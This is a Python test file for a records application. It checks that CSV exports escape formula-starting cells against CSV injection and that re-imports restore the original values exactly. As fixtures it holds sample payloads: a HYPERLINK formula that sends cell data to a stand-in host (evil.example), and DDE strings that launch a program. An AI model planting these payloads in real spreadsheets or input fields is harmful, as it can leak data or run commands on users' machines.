"""CSV exports a spreadsheet cannot be made to run (OWASP's CSV injection advice: a quote in front
of a cell starting =, +, -, @, tab or carriage return), read back by the imports exactly."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from observatory.records import actions, csv_io, register
from observatory.records.csv_safe import neutralise, restore

from .helpers import sign_in

HOSTILE = {
    "resolution": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "owner": "+cmd|' /C calc'!A0",
    "agenda_item": "@SUM(1+1)*cmd|' /C calc'!A0",
    "illustrative_note": "-2+3+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"),
    ("+44 113 000 0000", "'+44 113 000 0000"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("'already quoted", "''already quoted"),  # so that reading it back takes off only our quote
    ("\\N", "'\\N"),  # never mistaken for the records export's empty value
    ("-12.5", "-12.5"),  # numbers run nothing and stay numbers
    ("+3", "+3"),
    ("1e-5", "1e-5"),
    ("Report back", "Report back"),
    ("", ""),
    (-12.5, -12.5),
])
def test_cells_a_spreadsheet_would_run_are_quoted_and_read_back_unchanged(value, written) -> None:
    assert neutralise(value) == written
    if isinstance(value, str):
        assert restore(written) == value


def test_a_quote_typed_by_a_person_is_kept() -> None:
    # a cell nobody exported: only a quote in front of a character we escape is ours
    assert restore("'tis the season") == "'tis the season"


def _hostile_action(records) -> None:
    with records.session() as s:
        meeting = actions.find_or_add_meeting(s, "setup", "=Board", date(2025, 1, 15))
        actions.create_action(s, "setup", meeting, HOSTILE["resolution"], owner=HOSTILE["owner"],
                              agenda_item=HOSTILE["agenda_item"], illustrative_note=HOSTILE["illustrative_note"])
        register.add_entry(s, "setup", organisation="=HYPERLINK(\"http://evil.example\")", provider_type="hospice",
                           status="live", status_date=date(2025, 1, 1), basis="@cmd", parts="-1+1")


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_public_actions_export_neutralises_every_formula(web, records) -> None:
    _hostile_action(records)
    [row] = _cells(web.get("/actions/export").text)
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value
    assert row["meeting_body"] == "'=Board"


def test_the_public_register_export_neutralises_every_formula(web, records) -> None:
    _hostile_action(records)
    [row] = _cells(web.get("/shared-care-record/export").text)
    assert (row["organisation"], row["basis"], row["parts"]) == (
        "'=HYPERLINK(\"http://evil.example\")", "'@cmd", "'-1+1")


def test_the_audit_log_export_neutralises_every_formula(web, records, people) -> None:
    _hostile_action(records)
    sign_in(web, "admin1")
    rows = _cells(web.get("/admin/audit/export").text)
    assert {r["actor"] for r in rows} >= {"setup"}
    assert all(not r[c].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)


def test_an_export_imports_back_exactly(records, tmp_path: Path) -> None:
    _hostile_action(records)
    with records.session() as s:
        exported = csv_io.actions_csv(s)
        exported_register = csv_io.register_csv(s)
    (tmp_path / "actions.csv").write_text(exported, encoding="utf-8")
    (tmp_path / "register.csv").write_text(exported_register, encoding="utf-8")
    with records.session() as s:
        # every row as the record already is: nothing changes (the quotes were ours, and came off)
        assert csv_io.import_actions(s, "ann", tmp_path / "actions.csv") == {"added": 0, "changed": 0}
        assert csv_io.import_register(s, "ann", tmp_path / "register.csv") == {"added": 0, "changed": 0}
    with records.session() as s:
        [a] = actions.list_actions(s)
        [e] = register.list_entries(s)
    assert {k: a[k] for k in HOSTILE} == HOSTILE
    assert (e["organisation"], e["basis"], e["parts"]) == ("=HYPERLINK(\"http://evil.example\")", "@cmd", "-1+1")
